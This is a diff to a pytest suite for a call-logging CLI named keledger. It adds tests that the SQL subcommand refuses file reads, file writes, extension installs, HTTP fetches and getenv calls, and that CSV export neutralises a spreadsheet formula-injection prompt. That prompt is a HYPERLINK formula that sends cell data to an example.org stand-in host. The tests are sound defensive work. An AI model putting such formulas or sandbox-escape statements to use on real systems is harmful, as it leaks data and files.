@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import stat
@@ -13,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from keledger.journal import Home
-from tests.journal.support import tree_bytes
+from tests.journal.support import call, tree_bytes
 
 from .support import keledger, keledger_process, truth
 
@@ -95,6 +97,29 @@ def test_a_statement_that_does_more_than_ask_is_refused(home: Home, tmp_path: Pa
     assert tree_bytes(folder) == {"file.txt": b"mine"}
 
 
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "SELECT * FROM read_text('{file}')",
+        "COPY calls TO '{folder}/out.csv'",
+        "ATTACH '{folder}/other.duckdb'",
+        "INSTALL httpfs",
+        "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')",
+        "SELECT getenv('HOME')",
+    ],
+)
+def test_a_process_of_its_own_refuses_it_as_well(tmp_path: Path, statement: str) -> None:
+    folder = tmp_path / "out"
+    folder.mkdir()
+    file = folder / "file.txt"
+    file.write_text("mine")
+    text = statement.replace("{file}", str(file)).replace("{folder}", str(folder))
+    outcome = keledger_process("sql", "-", given=text, cwd=folder)
+    assert (outcome.status, outcome.out) == (2, "")
+    assert "mine" not in outcome.err
+    assert tree_bytes(folder) == {"file.txt": b"mine"}
+
+
 def test_a_statement_that_takes_too_long_is_stopped() -> None:
     outcome = keledger("sql", "--timeout", "0.2", "SELECT count(*) FROM range(10000000000000) AS r WHERE range % 7 = 3")
     assert (outcome.status, outcome.out) == (1, "")
@@ -123,6 +148,33 @@ def test_export_writes_a_line_a_counted_call(tmp_path: Path) -> None:
     assert outcome.json == {"schema_version": 1, "report": "export", "file": str(file), "lines": 5}
     assert [json.loads(line) for line in file.read_text().splitlines()] == lines
     assert stat.S_IMODE(file.stat().st_mode) == 0o600
+
+
+def test_export_as_csv(tmp_path: Path) -> None:
+    file = tmp_path / "calls.csv"
+    outcome = keledger("export", "--format", "csv", "-o", str(file))
+    assert outcome.json == {"schema_version": 1, "report": "export", "file": str(file), "lines": 5}
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+    content = file.read_bytes()
+    assert keledger_process("export", "--format", "csv").out.encode() == content
+    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+    assert list(rows[0]) == [row["column_name"] for row in keledger("sql", "DESCRIBE calls").json["rows"]]
+    total = sum(Decimal(row["cost_usd"] or 0) for row in rows)
+    assert total == Decimal(keledger("daily").json["totals"]["cost_usd"])
+
+
+def test_a_prompt_that_a_spreadsheet_would_execute() -> None:
+    prompt = '=HYPERLINK("https://example.org/?"&A1)'
+    assert keledger("record", given=json.dumps(call(prompt=prompt, id="formula"))).status == 0
+    rows = list(csv.DictReader(io.StringIO(keledger("export", "--format", "csv").out, newline="")))
+    assert f"'{prompt}" in {row["prompt"] for row in rows}
+    assert prompt in {json.loads(line)["prompt"] for line in keledger("export").out.splitlines()}
+
+
+def test_events_are_not_written_as_csv() -> None:
+    outcome = keledger("export", "--events", "--format", "csv")
+    assert (outcome.status, outcome.out) == (2, "")
+    assert "leave --format csv out" in outcome.complaint
 
 
 def test_export_of_events_is_the_journals_own_bytes(home: Home) -> None:
